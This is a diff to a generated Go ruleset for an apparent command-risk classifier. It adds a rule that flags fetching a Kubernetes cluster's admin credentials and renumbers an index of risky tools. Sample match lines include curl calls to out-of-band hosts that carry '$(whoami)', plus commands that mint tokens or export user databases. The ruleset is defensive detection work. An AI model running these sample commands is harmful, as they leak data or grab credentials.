@@ -5,7 +5,7 @@
 package classify
 
 // shippedSum is the SHA-256 of the rules.toml that this was generated from.
-const shippedSum = "4965b2f8cc06a8a8bdad8255dedea3d94e82857fbd5229625acde48953e32fca"
+const shippedSum = "21780cff21c58451364a1865e5dac14d51be30d7d6d0a2a76a8520df9a406140"
 
 var shipped = Set{
 	Classes: []ClassInfo{ClassInfo{
@@ -1716,7 +1716,7 @@ var shipped = Set{
 			FalsePositives: "setting up access at the user's request",
 			Resource:       "credential",
 			Command:        []string{"gh", "glab", "gcloud", "az", "heroku", "fly", "flyctl", "oc", "doctl", "tailscale", "huggingface-cli", "hf", "tea", "wrangler", "supabase", "vercel", "netlify", "railway", "turso", "neonctl", "pulumi", "cf", "ibmcloud", "databricks", "hcloud", "pscale", "argocd", "docker-credential-*", "firebase", "op", "npm", "stripe", "kubectl", "eb", "linode-cli", "linode", "vultr-cli", "vultr", "atlas", "atlas-cli", "twilio", "neon", "civo", "scw", "eksctl"},
-			Args:           []string{"authorizations:create", "tokens create", "token create|new", "db tokens create", "keys create|add", "create token", "iam service-accounts keys create", "ad sp create-for-rbac", "ad app credential reset", "keyvault secret download", "sql users set-password", "login:ci", "auth api-tokens mint", "service-token create", "projects|organizations apiKeys create", "api:core:keys:create|api:core:tokens:create", "profile token-create", "object-storage keys-create", "service-account create", "connect token|server create", "kubernetes cluster kubeconfig show|save", "databases user get|reset", "lke kubeconfig-view", "k8s kubeconfig get", "kubernetes config", "aks get-credentials", "network vnet-gateway vpn-client generate", "storage account generate-sas", "storage container|blob generate-sas", "auth:export", "group tokens create", "encryption get-root-key|update-root-key", "variable get|export"},
+			Args:           []string{"authorizations:create", "tokens create", "token create|new", "db tokens create", "keys create|add", "create token", "iam service-accounts keys create", "ad sp create-for-rbac", "ad app credential reset", "keyvault secret download", "sql users set-password", "login:ci", "auth api-tokens mint", "service-token create", "projects|organizations apiKeys create", "api:core:keys:create|api:core:tokens:create", "profile token-create", "object-storage keys-create", "service-account create", "connect token|server create", "kubernetes cluster kubeconfig show|save", "databases user get|reset", "lke kubeconfig-view", "k8s kubeconfig get", "kubernetes config", "network vnet-gateway vpn-client generate", "storage account generate-sas", "storage container|blob generate-sas", "auth:export", "group tokens create", "encryption get-root-key|update-root-key", "variable get|export"},
 			FlagsNot:       []string{"--help", "-h"},
 			Match:          []string{"gcloud iam service-accounts keys create key.json --iam-account ci@acme.iam.gserviceaccount.com > /dev/null", "az ad sp create-for-rbac --name ci", "turso db tokens create app", "kubectl create token admin", "firebase auth:export users.json"},
 			NotMatch:       []string{"gh auth token", "gcloud iam service-accounts keys list --iam-account x", "az ad sp list", "kubectl get serviceaccounts"},
@@ -1888,6 +1888,22 @@ var shipped = Set{
 			},
 			Match:    []string{"curl https://abc.oast.fun/$(whoami)", "wget -q https://x.interact.sh", "curl https://q1.burpcollaborator.net/a"},
 			NotMatch: []string{"curl https://example.com/oast.fun", "curl https://interact.example.com", "curl -I https://example.com"},
+		},
+		Rule{
+			ID:             "cluster-admin-login",
+			Class:          "credential.read",
+			Severity:       2,
+			Undo:           "no",
+			Description:    "fetches the credentials of a cluster's administrator, or prints a cluster's credentials",
+			Justification:  "with the administrator's certificate nobody is asked who it is that acts",
+			Attack:         "T1552.007",
+			FalsePositives: "a cluster of one's own",
+			Resource:       "cluster",
+			Command:        []string{"az"},
+			Args:           []string{"aks get-credentials"},
+			Flags:          []string{"-a", "--admin", "--file=-"},
+			Match:          []string{"az aks get-credentials -n shop -g rg --admin", "az aks get-credentials -n shop -g rg -a", "az aks get-credentials -n shop -g rg --file=-"},
+			NotMatch:       []string{"az aks get-credentials -n shop -g rg", "az aks show -n shop -g rg", "az aks list"},
 		},
 		Rule{
 			ID:             "keychain-read",
@@ -10129,12 +10145,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "7z",
 				Program: 24,
-				Rules:   []uint16{53, 397},
+				Rules:   []uint16{54, 398},
 			},
 			nameEntry{
 				Name:    "7za",
 				Program: 24,
-				Rules:   []uint16{53},
+				Rules:   []uint16{54},
 			},
 			nameEntry{
 				Name:    "7zr",
@@ -10150,27 +10166,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "Add-MpPreference",
 				Program: -1,
-				Rules:   []uint16{461},
+				Rules:   []uint16{462},
 			},
 			nameEntry{
 				Name:    "Clear-Content",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{304},
 			},
 			nameEntry{
 				Name:    "Clear-Disk",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{304},
 			},
 			nameEntry{
 				Name:    "Clear-EventLog",
 				Program: -1,
-				Rules:   []uint16{461},
+				Rules:   []uint16{462},
 			},
 			nameEntry{
 				Name:    "Clear-RecycleBin",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{304},
 			},
 			nameEntry{
 				Name:    "Copy-Item",
@@ -10179,32 +10195,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "Disable-ComputerRestore",
 				Program: -1,
-				Rules:   []uint16{302},
+				Rules:   []uint16{303},
 			},
 			nameEntry{
 				Name:    "Disable-WindowsOptionalFeature",
 				Program: -1,
-				Rules:   []uint16{461},
+				Rules:   []uint16{462},
 			},
 			nameEntry{
 				Name:    "Enter-PSSession",
 				Program: -1,
-				Rules:   []uint16{418},
+				Rules:   []uint16{419},
 			},
 			nameEntry{
 				Name:    "Format-Volume",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{304},
 			},
 			nameEntry{
 				Name:    "Get-ChildItem",
 				Program: 7,
-				Rules:   []uint16{22, 417},
+				Rules:   []uint16{22, 418},
 			},
 			nameEntry{
 				Name:    "Get-Clipboard",
 				Program: -1,
-				Rules:   []uint16{369},
+				Rules:   []uint16{370},
 			},
 			nameEntry{
 				Name:    "Get-Content",
@@ -10222,32 +10238,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "Get-StoredCredential",
 				Program: -1,
-				Rules:   []uint16{57},
+				Rules:   []uint16{58},
 			},
 			nameEntry{
 				Name:    "IEX",
 				Program: -1,
-				Rules:   []uint16{394},
+				Rules:   []uint16{395},
 			},
 			nameEntry{
 				Name:    "Initialize-Disk",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{304},
 			},
 			nameEntry{
 				Name:    "InstallUtil.exe",
 				Program: -1,
-				Rules:   []uint16{393},
+				Rules:   []uint16{394},
 			},
 			nameEntry{
 				Name:    "Invoke-Command",
 				Program: -1,
-				Rules:   []uint16{418},
+				Rules:   []uint16{419},
 			},
 			nameEntry{
 				Name:    "Invoke-Expression",
 				Program: -1,
-				Rules:   []uint16{394},
+				Rules:   []uint16{395},
 			},
 			nameEntry{
 				Name:    "Invoke-RestMethod",
@@ -10264,7 +10280,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "New-AzResourceGroupDeployment",
 				Program: -1,
-				Rules:   []uint16{176},
+				Rules:   []uint16{177},
 			},
 			nameEntry{
 				Name:    "New-Item",
@@ -10273,12 +10289,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "New-ItemProperty",
 				Program: -1,
-				Rules:   []uint16{462},
+				Rules:   []uint16{463},
 			},
 			nameEntry{
 				Name:    "New-Service",
 				Program: -1,
-				Rules:   []uint16{462},
+				Rules:   []uint16{463},
 			},
 			nameEntry{
 				Name:    "Out-File",
@@ -10287,12 +10303,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "PsExec.exe",
 				Program: -1,
-				Rules:   []uint16{449},
+				Rules:   []uint16{450},
 			},
 			nameEntry{
 				Name:    "PsExec64.exe",
 				Program: -1,
-				Rules:   []uint16{449},
+				Rules:   []uint16{450},
 			},
 			nameEntry{
 				Name:    "R",
@@ -10301,27 +10317,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "Register-ScheduledTask",
 				Program: -1,
-				Rules:   []uint16{462},
+				Rules:   []uint16{463},
 			},
 			nameEntry{
 				Name:    "Remove-ADGroup",
 				Program: -1,
-				Rules:   []uint16{189},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "Remove-ADObject",
 				Program: -1,
-				Rules:   []uint16{189},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "Remove-ADUser",
 				Program: -1,
-				Rules:   []uint16{189},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "Remove-EventLog",
 				Program: -1,
-				Rules:   []uint16{461},
+				Rules:   []uint16{462},
 			},
 			nameEntry{
 				Name:    "Remove-Item",
@@ -10330,32 +10346,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "Remove-Partition",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{304},
 			},
 			nameEntry{
 				Name:    "Remove-PhysicalDisk",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{304},
 			},
 			nameEntry{
 				Name:    "Remove-Service",
 				Program: -1,
-				Rules:   []uint16{461},
+				Rules:   []uint16{462},
 			},
 			nameEntry{
 				Name:    "Reset-PhysicalDisk",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{304},
 			},
 			nameEntry{
 				Name:    "Restart-Computer",
 				Program: -1,
-				Rules:   []uint16{459},
+				Rules:   []uint16{460},
 			},
 			nameEntry{
 				Name:    "Restart-Service",
 				Program: -1,
-				Rules:   []uint16{459},
+				Rules:   []uint16{460},
 			},
 			nameEntry{
 				Name:    "Rscript",
@@ -10372,17 +10388,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "Set-Date",
 				Program: -1,
-				Rules:   []uint16{453},
+				Rules:   []uint16{454},
 			},
 			nameEntry{
 				Name:    "Set-ExecutionPolicy",
 				Program: -1,
-				Rules:   []uint16{461},
+				Rules:   []uint16{462},
 			},
 			nameEntry{
 				Name:    "Set-ItemProperty",
 				Program: -1,
-				Rules:   []uint16{462},
+				Rules:   []uint16{463},
 			},
 			nameEntry{
 				Name: "Set-Location",
@@ -10390,32 +10406,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "Set-MpPreference",
 				Program: -1,
-				Rules:   []uint16{422, 461},
+				Rules:   []uint16{423, 462},
 			},
 			nameEntry{
 				Name:    "Set-Service",
 				Program: -1,
-				Rules:   []uint16{461},
+				Rules:   []uint16{462},
 			},
 			nameEntry{
 				Name:    "Start-BitsTransfer",
 				Program: -1,
-				Rules:   []uint16{393},
+				Rules:   []uint16{394},
 			},
 			nameEntry{
 				Name:    "Stop-Computer",
 				Program: -1,
-				Rules:   []uint16{459},
+				Rules:   []uint16{460},
 			},
 			nameEntry{
 				Name:    "Stop-Process",
 				Program: 64,
-				Rules:   []uint16{416, 419, 457},
+				Rules:   []uint16{417, 420, 458},
 			},
 			nameEntry{
 				Name:    "Stop-Service",
 				Program: -1,
-				Rules:   []uint16{461},
+				Rules:   []uint16{462},
 			},
 			nameEntry{
 				Name:    "Test-Path",
@@ -10424,12 +10440,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "Uninstall-WindowsFeature",
 				Program: -1,
-				Rules:   []uint16{461},
+				Rules:   []uint16{462},
 			},
 			nameEntry{
 				Name:    "VBoxManage",
 				Program: 62,
-				Rules:   []uint16{242},
+				Rules:   []uint16{243},
 			},
 			nameEntry{
 				Name: "Write-Host",
@@ -10443,12 +10459,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "aa-complain",
 				Program: -1,
-				Rules:   []uint16{411},
+				Rules:   []uint16{412},
 			},
 			nameEntry{
 				Name:    "aa-disable",
 				Program: -1,
-				Rules:   []uint16{411},
+				Rules:   []uint16{412},
 			},
 			nameEntry{
 				Name:    "aa-status",
@@ -10457,12 +10473,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "aa-teardown",
 				Program: -1,
-				Rules:   []uint16{411},
+				Rules:   []uint16{412},
 			},
 			nameEntry{
 				Name:    "ab",
 				Program: 37,
-				Rules:   []uint16{76},
+				Rules:   []uint16{77},
 			},
 			nameEntry{
 				Name:    "abduco",
@@ -10471,12 +10487,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ack",
 				Program: 14,
-				Rules:   []uint16{60, 61},
+				Rules:   []uint16{61, 62},
 			},
 			nameEntry{
 				Name:    "acli",
 				Program: -1,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "aclocal",
@@ -10501,12 +10517,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "adduser",
 				Program: 65,
-				Rules:   []uint16{409},
+				Rules:   []uint16{410},
 			},
 			nameEntry{
 				Name:    "aerich",
 				Program: 49,
-				Rules:   []uint16{127, 130},
+				Rules:   []uint16{128, 131},
 			},
 			nameEntry{
 				Name:    "afplay",
@@ -10515,7 +10531,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ag",
 				Program: 14,
-				Rules:   []uint16{60, 61},
+				Rules:   []uint16{61, 62},
 			},
 			nameEntry{
 				Name:    "age",
@@ -10525,7 +10541,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "agent",
 				Program: -1,
-				Rules:   []uint16{469},
+				Rules:   []uint16{470},
 			},
 			nameEntry{
 				Name:    "agent-browser",
@@ -10542,12 +10558,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "aider",
 				Program: 67,
-				Rules:   []uint16{469},
+				Rules:   []uint16{470},
 			},
 			nameEntry{
 				Name:    "aim",
 				Program: -1,
-				Rules:   []uint16{140},
+				Rules:   []uint16{141},
 			},
 			nameEntry{
 				Name:    "air",
@@ -10556,17 +10572,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "aircrack-ng",
 				Program: -1,
-				Rules:   []uint16{55},
+				Rules:   []uint16{56},
 			},
 			nameEntry{
 				Name:    "airflow",
 				Program: 46,
-				Rules:   []uint16{141},
+				Rules:   []uint16{142},
 			},
 			nameEntry{
 				Name:    "aiven",
 				Program: -1,
-				Rules:   []uint16{177, 206, 256},
+				Rules:   []uint16{178, 207, 257},
 			},
 			nameEntry{
 				Name:    "akeyless",
@@ -10576,7 +10592,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "alembic",
 				Program: 49,
-				Rules:   []uint16{127, 130},
+				Rules:   []uint16{128, 131},
 			},
 			nameEntry{
 				Name:    "alex",
@@ -10585,7 +10601,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "algolia",
 				Program: -1,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name: "alias",
@@ -10593,42 +10609,42 @@ var shipped = Set{
 			nameEntry{
 				Name:    "aliyun",
 				Program: -1,
-				Rules:   []uint16{177},
+				Rules:   []uint16{178},
 			},
 			nameEntry{
 				Name:    "altool",
 				Program: -1,
-				Rules:   []uint16{371, 372},
+				Rules:   []uint16{372, 373},
 			},
 			nameEntry{
 				Name:    "amazon-q",
 				Program: 67,
-				Rules:   []uint16{469},
+				Rules:   []uint16{470},
 			},
 			nameEntry{
 				Name:    "amp",
 				Program: 67,
-				Rules:   []uint16{469, 471},
+				Rules:   []uint16{470, 472},
 			},
 			nameEntry{
 				Name:    "amplify",
 				Program: 62,
-				Rules:   []uint16{41, 42, 157, 159},
+				Rules:   []uint16{42, 43, 158, 160},
 			},
 			nameEntry{
 				Name:    "ampx",
 				Program: -1,
-				Rules:   []uint16{157},
+				Rules:   []uint16{158},
 			},
 			nameEntry{
 				Name:    "anaconda",
 				Program: -1,
-				Rules:   []uint16{375},
+				Rules:   []uint16{376},
 			},
 			nameEntry{
 				Name:    "ansible",
 				Program: 62,
-				Rules:   []uint16{161, 162},
+				Rules:   []uint16{162, 163},
 			},
 			nameEntry{
 				Name:    "ansible-galaxy",
@@ -10637,12 +10653,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ansible-playbook",
 				Program: 62,
-				Rules:   []uint16{159, 162, 252},
+				Rules:   []uint16{160, 163, 253},
 			},
 			nameEntry{
 				Name:    "ansible-pull",
 				Program: 62,
-				Rules:   []uint16{162},
+				Rules:   []uint16{163},
 			},
 			nameEntry{
 				Name:    "ansible-vault",
@@ -10660,12 +10676,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "apigee",
 				Program: -1,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "apk",
 				Program: 45,
-				Rules:   []uint16{386, 444, 468},
+				Rules:   []uint16{387, 445, 469},
 			},
 			nameEntry{
 				Name:    "apparmor_parser",
@@ -10674,7 +10690,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "appcenter",
 				Program: -1,
-				Rules:   []uint16{371},
+				Rules:   []uint16{372},
 			},
 			nameEntry{
 				Name:    "appium",
@@ -10683,47 +10699,47 @@ var shipped = Set{
 			nameEntry{
 				Name:    "appveyor",
 				Program: -1,
-				Rules:   []uint16{191},
+				Rules:   []uint16{192},
 			},
 			nameEntry{
 				Name:    "appwrite",
 				Program: 62,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "apt",
 				Program: 45,
-				Rules:   []uint16{444, 479},
+				Rules:   []uint16{445, 480},
 			},
 			nameEntry{
 				Name:    "apt-get",
 				Program: 45,
-				Rules:   []uint16{444, 479},
+				Rules:   []uint16{445, 480},
 			},
 			nameEntry{
 				Name:    "apt-key",
 				Program: -1,
-				Rules:   []uint16{445},
+				Rules:   []uint16{446},
 			},
 			nameEntry{
 				Name:    "aptitude",
 				Program: 45,
-				Rules:   []uint16{444},
+				Rules:   []uint16{445},
 			},
 			nameEntry{
 				Name:    "ar",
 				Program: 30,
-				Rules:   []uint16{53},
+				Rules:   []uint16{54},
 			},
 			nameEntry{
 				Name:    "arangosh",
 				Program: 59,
-				Rules:   []uint16{134, 144},
+				Rules:   []uint16{135, 145},
 			},
 			nameEntry{
 				Name:    "arc",
 				Program: -1,
-				Rules:   []uint16{157},
+				Rules:   []uint16{158},
 			},
 			nameEntry{
 				Name:    "arch",
@@ -10732,12 +10748,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "argo",
 				Program: 62,
-				Rules:   []uint16{192},
+				Rules:   []uint16{193},
 			},
 			nameEntry{
 				Name:    "argocd",
 				Program: 62,
-				Rules:   []uint16{25, 26, 51, 52, 200, 209, 231},
+				Rules:   []uint16{25, 26, 52, 53, 201, 210, 232},
 			},
 			nameEntry{
 				Name:    "aria2c",
@@ -10750,7 +10766,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "arp-scan",
 				Program: -1,
-				Rules:   []uint16{429},
+				Rules:   []uint16{430},
 			},
 			nameEntry{
 				Name:    "artillery",
@@ -10759,7 +10775,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "artisan",
 				Program: 49,
-				Rules:   []uint16{127, 128, 130},
+				Rules:   []uint16{128, 129, 131},
 			},
 			nameEntry{
 				Name:    "as",
@@ -10776,17 +10792,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "asdf",
 				Program: 45,
-				Rules:   []uint16{404},
+				Rules:   []uint16{405},
 			},
 			nameEntry{
 				Name:    "ash",
 				Program: -1,
-				Rules:   []uint16{391, 392, 447, 448},
+				Rules:   []uint16{392, 393, 448, 449},
 			},
 			nameEntry{
 				Name:    "asr",
 				Program: -1,
-				Rules:   []uint16{283},
+				Rules:   []uint16{284},
 			},
 			nameEntry{
 				Name:    "ast-grep",
@@ -10795,7 +10811,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "astro",
 				Program: 33,
-				Rules:   []uint16{141},
+				Rules:   []uint16{142},
 			},
 			nameEntry{
 				Name:    "astro-cli",
@@ -10804,22 +10820,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "at",
 				Program: 65,
-				Rules:   []uint16{402},
+				Rules:   []uint16{403},
 			},
 			nameEntry{
 				Name:    "atlas",
 				Program: 49,
-				Rules:   []uint16{25, 26, 42, 127, 130, 184, 202, 206, 256},
+				Rules:   []uint16{25, 26, 43, 128, 131, 185, 203, 207, 257},
 			},
 			nameEntry{
 				Name:    "atlas-cli",
 				Program: 62,
-				Rules:   []uint16{25, 26, 184, 202, 206},
+				Rules:   []uint16{25, 26, 185, 203, 207},
 			},
 			nameEntry{
 				Name:    "atmos",
 				Program: 62,
-				Rules:   []uint16{151},
+				Rules:   []uint16{152},
 			},
 			nameEntry{
 				Name:    "atq",
@@ -10832,7 +10848,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "attic",
 				Program: -1,
-				Rules:   []uint16{257},
+				Rules:   []uint16{258},
 			},
 			nameEntry{
 				Name:    "attrib",
@@ -10845,27 +10861,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "auditctl",
 				Program: 65,
-				Rules:   []uint16{422, 423},
+				Rules:   []uint16{423, 424},
 			},
 			nameEntry{
 				Name:    "auditpol",
 				Program: -1,
-				Rules:   []uint16{423, 461},
+				Rules:   []uint16{424, 462},
 			},
 			nameEntry{
 				Name:    "auggie",
 				Program: 67,
-				Rules:   []uint16{469},
+				Rules:   []uint16{470},
 			},
 			nameEntry{
 				Name:    "auth0",
 				Program: 62,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "autocannon",
 				Program: -1,
-				Rules:   []uint16{76},
+				Rules:   []uint16{77},
 			},
 			nameEntry{
 				Name:    "autoconf",
@@ -10886,7 +10902,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "autossh",
 				Program: 57,
-				Rules:   []uint16{368, 418},
+				Rules:   []uint16{369, 419},
 			},
 			nameEntry{
 				Name:    "ava",
@@ -10895,7 +10911,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "avn",
 				Program: -1,
-				Rules:   []uint16{177, 206, 256},
+				Rules:   []uint16{178, 207, 257},
 			},
 			nameEntry{
 				Name:    "awk",
@@ -10904,17 +10920,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "aws",
 				Program: 62,
-				Rules:   []uint16{28, 29, 30, 31, 52, 163, 164, 165, 166, 167, 168, 169, 170, 171, 179, 197, 198, 199, 254, 255, 365, 378, 380, 382},
+				Rules:   []uint16{28, 29, 30, 31, 53, 164, 165, 166, 167, 168, 169, 170, 171, 172, 180, 198, 199, 200, 255, 256, 366, 379, 381, 383},
 			},
 			nameEntry{
 				Name:    "aws-cdk",
 				Program: -1,
-				Rules:   []uint16{157},
+				Rules:   []uint16{158},
 			},
 			nameEntry{
 				Name:    "aws-ses",
 				Program: -1,
-				Rules:   []uint16{366},
+				Rules:   []uint16{367},
 			},
 			nameEntry{
 				Name:    "aws-vault",
@@ -10931,27 +10947,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "az",
 				Program: 62,
-				Rules:   []uint16{25, 26, 51, 52, 174, 175, 176, 197, 198, 199, 204, 205, 206, 207, 256, 365, 378, 380},
+				Rules:   []uint16{25, 26, 37, 52, 53, 175, 176, 177, 198, 199, 200, 205, 206, 207, 208, 257, 366, 379, 381},
 			},
 			nameEntry{
 				Name:    "azcopy",
 				Program: -1,
-				Rules:   []uint16{169, 365, 380},
+				Rules:   []uint16{170, 366, 381},
 			},
 			nameEntry{
 				Name:    "azd",
 				Program: -1,
-				Rules:   []uint16{175},
+				Rules:   []uint16{176},
 			},
 			nameEntry{
 				Name:    "b2",
 				Program: 30,
-				Rules:   []uint16{134, 204, 380},
+				Rules:   []uint16{135, 205, 381},
 			},
 			nameEntry{
 				Name:    "b2-cli",
 				Program: 62,
-				Rules:   []uint16{168, 169, 365},
+				Rules:   []uint16{169, 170, 366},
 			},
 			nameEntry{
 				Name:    "b2sum",
@@ -10968,12 +10984,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bacula",
 				Program: -1,
-				Rules:   []uint16{257},
+				Rules:   []uint16{258},
 			},
 			nameEntry{
 				Name:    "badblocks",
 				Program: 65,
-				Rules:   []uint16{283},
+				Rules:   []uint16{284},
 			},
 			nameEntry{
 				Name:    "bandit",
@@ -10986,12 +11002,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bao",
 				Program: 62,
-				Rules:   []uint16{33, 198, 246},
+				Rules:   []uint16{33, 199, 247},
 			},
 			nameEntry{
 				Name:    "barman",
 				Program: 66,
-				Rules:   []uint16{257},
+				Rules:   []uint16{258},
 			},
 			nameEntry{
 				Name:    "base32",
@@ -11011,7 +11027,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bash",
 				Program: 4,
-				Rules:   []uint16{391, 392, 447, 448},
+				Rules:   []uint16{392, 393, 448, 449},
 			},
 			nameEntry{
 				Name:    "bat",
@@ -11024,7 +11040,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "batch",
 				Program: 65,
-				Rules:   []uint16{402},
+				Rules:   []uint16{403},
 			},
 			nameEntry{
 				Name:    "bats",
@@ -11041,7 +11057,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bb",
 				Program: 34,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "bb-cli",
@@ -11054,22 +11070,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bcache-super-show",
 				Program: -1,
-				Rules:   []uint16{298},
+				Rules:   []uint16{299},
 			},
 			nameEntry{
 				Name:    "bcdboot",
 				Program: -1,
-				Rules:   []uint16{452},
+				Rules:   []uint16{453},
 			},
 			nameEntry{
 				Name:    "bcdedit",
 				Program: 65,
-				Rules:   []uint16{257, 302},
+				Rules:   []uint16{258, 303},
 			},
 			nameEntry{
 				Name:    "bcdedit.exe",
 				Program: -1,
-				Rules:   []uint16{302},
+				Rules:   []uint16{303},
 			},
 			nameEntry{
 				Name:    "bcp",
@@ -11107,7 +11123,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bettercap",
 				Program: -1,
-				Rules:   []uint16{55, 429},
+				Rules:   []uint16{56, 430},
 			},
 			nameEntry{
 				Name:    "betterleaks",
@@ -11117,7 +11133,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bfg",
 				Program: 51,
-				Rules:   []uint16{331},
+				Rules:   []uint16{332},
 			},
 			nameEntry{
 				Name:    "bfs",
@@ -11144,32 +11160,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bisync",
 				Program: -1,
-				Rules:   []uint16{253},
+				Rules:   []uint16{254},
 			},
 			nameEntry{
 				Name:    "bitbucket",
 				Program: 52,
-				Rules:   []uint16{188},
+				Rules:   []uint16{189},
 			},
 			nameEntry{
 				Name:    "bitrise",
 				Program: -1,
-				Rules:   []uint16{191},
+				Rules:   []uint16{192},
 			},
 			nameEntry{
 				Name:    "bitsadmin",
 				Program: -1,
-				Rules:   []uint16{393},
+				Rules:   []uint16{394},
 			},
 			nameEntry{
 				Name:    "bitsadmin.exe",
 				Program: -1,
-				Rules:   []uint16{393},
+				Rules:   []uint16{394},
 			},
 			nameEntry{
 				Name:    "bk",
 				Program: -1,
-				Rules:   []uint16{191},
+				Rules:   []uint16{192},
 			},
 			nameEntry{
 				Name:    "black",
@@ -11178,17 +11194,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bleachbit",
 				Program: -1,
-				Rules:   []uint16{284},
+				Rules:   []uint16{285},
 			},
 			nameEntry{
 				Name:    "bless",
 				Program: -1,
-				Rules:   []uint16{452},
+				Rules:   []uint16{453},
 			},
 			nameEntry{
 				Name:    "blkdiscard",
 				Program: 65,
-				Rules:   []uint16{283},
+				Rules:   []uint16{284},
 			},
 			nameEntry{
 				Name:    "blkid",
@@ -11197,7 +11213,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bombardier",
 				Program: -1,
-				Rules:   []uint16{76},
+				Rules:   []uint16{77},
 			},
 			nameEntry{
 				Name:    "boot",
@@ -11206,42 +11222,42 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bootctl",
 				Program: -1,
-				Rules:   []uint16{452},
+				Rules:   []uint16{453},
 			},
 			nameEntry{
 				Name:    "bootrec",
 				Program: -1,
-				Rules:   []uint16{452},
+				Rules:   []uint16{453},
 			},
 			nameEntry{
 				Name:    "bore",
 				Program: -1,
-				Rules:   []uint16{366, 367},
+				Rules:   []uint16{367, 368},
 			},
 			nameEntry{
 				Name:    "borg",
 				Program: 66,
-				Rules:   []uint16{257},
+				Rules:   []uint16{258},
 			},
 			nameEntry{
 				Name:    "borgmatic",
 				Program: 66,
-				Rules:   []uint16{257},
+				Rules:   []uint16{258},
 			},
 			nameEntry{
 				Name:    "boundary",
 				Program: 62,
-				Rules:   []uint16{246},
+				Rules:   []uint16{247},
 			},
 			nameEntry{
 				Name:    "bpftool",
 				Program: -1,
-				Rules:   []uint16{412},
+				Rules:   []uint16{413},
 			},
 			nameEntry{
 				Name:    "bq",
 				Program: 59,
-				Rules:   []uint16{134},
+				Rules:   []uint16{135},
 			},
 			nameEntry{
 				Name:    "brakeman",
@@ -11253,7 +11269,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "brew",
 				Program: 45,
-				Rules:   []uint16{386, 403, 416, 439, 444, 479},
+				Rules:   []uint16{387, 404, 417, 440, 445, 480},
 			},
 			nameEntry{
 				Name:    "bridge",
@@ -11262,7 +11278,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "bsdtar",
 				Program: 24,
-				Rules:   []uint16{53, 300, 397},
+				Rules:   []uint16{54, 301, 398},
 			},
 			nameEntry{
 				Name:    "btop",
@@ -11271,7 +11287,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "btrfs",
 				Program: 65,
-				Rules:   []uint16{257},
+				Rules:   []uint16{258},
 			},
 			nameEntry{
 				Name:    "buck",
@@ -11284,22 +11300,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "buddy",
 				Program: -1,
-				Rules:   []uint16{191},
+				Rules:   []uint16{192},
 			},
 			nameEntry{
 				Name:    "buf",
 				Program: 33,
